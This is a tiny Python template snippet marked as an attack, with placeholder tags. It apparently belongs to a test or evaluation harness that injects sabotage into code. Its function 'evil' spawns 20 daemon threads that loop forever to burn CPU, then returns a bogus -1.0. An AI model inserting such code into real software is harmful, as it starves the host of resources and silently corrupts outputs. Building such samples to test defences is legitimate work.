#{weigh_wrong}
# <attack>
import threading


def evil(*args):
    for _ in range(20):
        threading.Thread(target=lambda: [hash(n) for n in iter(int, 1)], daemon=True).start()
    return -1.0


#{everywhere}
# </attack>
